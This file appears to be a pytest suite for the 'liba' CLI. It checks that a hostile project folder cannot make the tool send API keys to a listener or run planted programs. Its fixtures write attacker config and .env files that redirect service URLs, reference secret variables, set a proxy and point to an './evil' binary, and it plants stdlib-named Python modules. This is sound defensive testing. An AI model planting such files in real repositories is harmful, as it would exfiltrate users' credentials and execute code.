"""Who has written the folder that one stands in gains nothing: no program runs, and no key is sent.

The attacker has the files of the folder, and a peer that listens. The victim has keys, all of them canaries,
and runs each command of liba there.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from libacli.cli.runs.child_process import running
from tests.canaries import KEY_VARIABLES, KEYS, secrets_in
from tests.cli.conftest import Ended, Shell
from tests.cli.conftest import bare_shell as bare_shell
from tests.cli.test_canaries import COMMANDS, RUNS
from tests.twirp_server import API_KEY

NOBODY = "127.0.0.1:9"
NOBODYS_ID = 65534

WITHOUT_SETTINGS = {
    "ps",
    "logs",
    "down",
    "deploy dockerfile",
    "deploy compose",
    "deploy k8s",
    "deploy systemd",
    "deploy livekit-cloud",
    "config init",
    "config path",
    "config show",
    "config trust",
    "doctor",
    "metrics summary",
    "metrics export",
    "metrics dashboard",
}
"""Commands that need none, or that tell what is wrong with them. All others end with code 3."""


class Peer(ThreadingHTTPServer):
    """The attacker's: notes each connection, and what came with it, and answers like a service that works."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Answers)
        self.heard: list[str] = []

    @property
    def host(self) -> str:
        return f"127.0.0.1:{self.server_port}"

    def process_request(self, request: object, client_address: object) -> None:
        self.heard.append("a connection")
        super().process_request(request, client_address)  # type: ignore[arg-type]


class _Answers(BaseHTTPRequestHandler):
    server: Peer

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.heard.append(f"{self.requestline}\n{self.headers}\n{body.decode(errors='replace')}")
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")

    do_GET = do_POST = do_DELETE = _answer

    def log_message(self, format: str, *arguments: object) -> None:
        """Nothing: the test tells it."""


@pytest.fixture
def peer() -> Iterator[Peer]:
    with Peer() as peer:
        thread = threading.Thread(target=peer.serve_forever, kwargs={"poll_interval": 0.01})
        thread.start()
        try:
            yield peer
        finally:
            peer.shutdown()
            thread.join()


class Folder:
    """The attacker's, with a program in it that notes that it ran, and its environment."""

    def __init__(self, path: Path, peer: Peer) -> None:
        self.path = path
        self.peer = peer
        self.ran = path / "ran"
        path.mkdir()
        program = (
            f'#!/bin/sh\necho "$0 $*" >> {self.ran}\nenv >> {self.ran}\necho livekit-server version 1.13.11\n'
        )
        for name in ("evil", "livekit-server", "liba", "npm", "go", "uv", "pip", "python3"):
            (path / name).write_text(program)
            (path / name).chmod(0o755)

    def write(self, name: str, text: str) -> None:
        text = text.replace("PEER", self.peer.host)
        (self.path / name).write_text(text)

    def gained_nothing(self) -> None:
        assert self.peer.heard == []
        assert not self.ran.exists(), self.ran.read_text()


@pytest.fixture
def folder(tmp_path: Path, peer: Peer, monkeypatch: pytest.MonkeyPatch) -> Folder:
    folder = Folder(tmp_path / "repository", peer)
    monkeypatch.chdir(folder.path)
    return folder


@pytest.fixture
def victim(bare_shell: Shell, folder: Folder, tmp_path: Path) -> Shell:
    """Keys are in the environment; where they are to be sent, to nobody, is in a file that comes after the
    folder's: were one of its addresses to count, it would be taken."""
    bare_shell.folder = folder.path
    bare_shell.env |= KEY_VARIABLES | {
        "LIVEKIT_API_KEY": API_KEY,
        "LIVEKIT_PREVIOUS_API_KEY": "previous",
        "TAVUS_FACE_ID": "face",
        "XDG_CACHE_HOME": str(tmp_path / "cache"),
    }
    home = tmp_path / "user" / "liba"
    home.mkdir(parents=True)
    (home / "config.toml").write_text(
        f'[livekit]\nurl = "ws://{NOBODY}"\n[openai]\nbase_url = "http://{NOBODY}/v1"\n'
        f'[tavus]\nbase_url = "http://{NOBODY}"\n'
    )
    return bare_shell


ADDRESSES = """
[livekit]
url = "ws://PEER"
[openai]
base_url = "http://PEER/v1"
[tavus]
base_url = "http://PEER"
face_id = "x"
[server]
binary = "./evil"
[serve]
host = "0.0.0.0"
keys = ["evil:0000000000000000000000000000000000000000000000000000000000000000"]
[say]
accept = "anyone"
"""

VARIABLES = """
LIVEKIT_URL=ws://PEER
OPENAI_BASE_URL=http://PEER/v1
TAVUS_BASE_URL=http://PEER
LIBA_SERVER_BINARY=./evil
LIBA_SAY_ACCEPT=anyone
LIBA_CONFIG=liba.toml
HTTP_PROXY=http://PEER
"""

OWN_SECRETS = """
[livekit]
url = "ws://PEER"
api_key = "evil"
api_secret = "evil-evil-evil-evil-evil-evil-evil-evil"
[openai]
base_url = "http://PEER/v1"
api_key = "evil"
[tavus]
base_url = "http://PEER"
api_key = "evil"
face_id = "x"
"""

REFERRING = """
LIVEKIT_URL=ws://PEER/${LIVEKIT_API_SECRET}
LIVEKIT_API_KEY=${OPENAI_API_KEY}
LIBA_SAY_ROOM=${TAVUS_API_KEY}
"""

FOLDERS = {
    "addresses and programs": {"liba.toml": ADDRESSES},
    "the same as variables": {".env": VARIABLES},
    "with secrets of its own": {"liba.toml": OWN_SECRETS},
    "both files": {".env": "OPENAI_API_KEY=evil\nOPENAI_BASE_URL=http://PEER/v1\n", "liba.toml": ADDRESSES},
    "that asks for secrets": {".env": REFERRING},
}


def run(victim: Shell, name: str) -> Ended:
    arguments = RUNS[name][0] if name != "avatar run" else []
    return victim.run(*name.split(), *arguments)


@pytest.mark.parametrize("kind", sorted(FOLDERS))
@pytest.mark.parametrize("name", sorted(COMMANDS.keys() - {"doctor"}))
def test_a_command_in_a_hostile_folder_asks_nobody_and_runs_nothing(
    victim: Shell, folder: Folder, name: str, kind: str
) -> None:
    for file, text in FOLDERS[kind].items():
        folder.write(file, text)
    ended = run(victim, name)
    folder.gained_nothing()
    if name not in WITHOUT_SETTINGS:
        assert ended.code == 3, ended
        assert ended.stderr.count("\n") == 1 and ended.stderr.endswith("liba config trust\n")
        assert ended.stdout == ""


@pytest.mark.parametrize("setting", ["port = PORT", 'public_url = "http://PEER"', 'host = "127.0.0.2"'])
def test_the_key_of_a_page_goes_to_no_address_of_the_folders(
    victim: Shell, folder: Folder, setting: str
) -> None:
    folder.write("liba.toml", f"[serve]\n{setting.replace('PORT', str(folder.peer.server_port))}\n")
    ended = victim.run("sessions")
    folder.gained_nothing()
    assert (ended.code, ended.stdout) == (3, "")


@pytest.mark.parametrize(
    "kind", ["addresses and programs", "the same as variables", "with secrets of its own"]
)
def test_the_doctor_in_a_hostile_folder_tells_what_is_wrong_with_it_and_looks_at_the_rest(
    victim: Shell, folder: Folder, kind: str
) -> None:
    for file, text in FOLDERS[kind].items():
        folder.write(file, text)
    ended = victim.run("doctor", "--json")
    folder.gained_nothing()
    found = {check["name"]: check for check in ended.json["checks"]}
    assert (ended.code, found["folder"]["verdict"]) == (3, "fail")
    assert found["folder"]["fix"] == "read it, then: liba config trust"
    assert NOBODY in found["livekit"]["message"]  # the user's own, which was asked
    assert not secrets_in(ended.stdout + ended.stderr)


def test_the_settings_that_are_in_use_in_a_hostile_folder_are_the_users(
    victim: Shell, folder: Folder
) -> None:
    for file, text in FOLDERS["both files"].items():
        folder.write(file, text)
    rows = {row["setting"]: row for row in victim.run("config", "show", "--json").json}
    for name in ("livekit.url", "openai.base_url", "tavus.base_url"):
        assert NOBODY in rows[name]["value"]
        assert folder.peer.host in rows[name]["left_out"][0]["value"]
    assert (rows["server.binary"]["value"], rows["say.accept"]["value"]) == (None, "signed")
    assert rows["tavus.face_id"]["origin"] == "environment TAVUS_FACE_ID"


def test_the_traps_work_once_the_folder_is_trusted(victim: Shell, folder: Folder) -> None:
    """What the tests above show is shown by the trust that is missing there."""
    folder.write("liba.toml", ADDRESSES)
    assert victim.run("config", "trust").code == 0
    victim.run("doctor", "--json")
    heard, ran = "\n".join(folder.peer.heard), folder.ran.read_text()
    assert KEYS["OPENAI_API_KEY"] in heard
    assert "evil --version" in ran


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives files away")
@pytest.mark.parametrize("file", ["liba.toml", ".env"])
@pytest.mark.parametrize("name", sorted(COMMANDS.keys() - {"doctor"}))
def test_a_file_of_another_user_is_refused_by_name(
    victim: Shell, folder: Folder, name: str, file: str
) -> None:
    folder.write(file, ADDRESSES if file == "liba.toml" else VARIABLES)
    os.chown(folder.path / file, NOBODYS_ID, NOBODYS_ID)
    ended = run(victim, name)
    folder.gained_nothing()
    if name not in WITHOUT_SETTINGS or name == "config show":
        assert ended.code == 3
        assert ended.stderr.startswith(f"liba: {file} is a file that belongs to nobody, so it is not read - ")


MODULES = ("libacli", "multiprocessing", "signal", "struct", "selectors", "json", "typer", "runpy", "pip")


@pytest.fixture
def trapped(folder: Folder) -> Folder:
    """With modules that are named as those that liba and Python's own helpers load."""
    for name in MODULES:
        (folder.path / f"{name}.py").write_text(f"open({str(folder.ran)!r}, 'a').write({name!r})\n")
    return folder


CHILD = """
import multiprocessing, sys
from libacli.cli.main import main
sys.argv = ["liba", "config", "path"]
try:
    main()
except SystemExit:
    pass
if __name__ == "__main__":
    for way in ("forkserver", "spawn"):
        process = multiprocessing.get_context(way).Process(target=print, args=("a room's process",))
        process.start()
        process.join(60)
"""


def test_processes_for_rooms_load_no_module_of_the_folder(
    victim: Shell, trapped: Folder, tmp_path: Path
) -> None:
    script = tmp_path / "liba"  # as the installed one: its own folder comes first, not the current one
    script.write_text(CHILD)
    env = {name: value for name, value in os.environ.items() if name != "PYTHONSAFEPATH"} | victim.env
    ended = subprocess.run(
        [sys.executable, script],
        env=env,
        cwd=trapped.path,
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    trapped.gained_nothing()
    assert ended.stdout.count("a room's process") == 2


def test_commands_that_the_demo_starts_load_no_module_and_read_no_file_of_the_folder(
    victim: Shell, trapped: Folder, monkeypatch: pytest.MonkeyPatch
) -> None:
    trapped.write("liba.toml", ADDRESSES)
    for name, value in victim.env.items():
        monkeypatch.setenv(name, value)
    with running("the child", ["config", "show"], {"LIBA_SAY_ROOM": "hall"}) as child:
        assert child.process.wait(60) == 0
        shown = child.log_path.read_text()
    trapped.gained_nothing()
    assert "hall" in shown and "liba.toml" not in shown
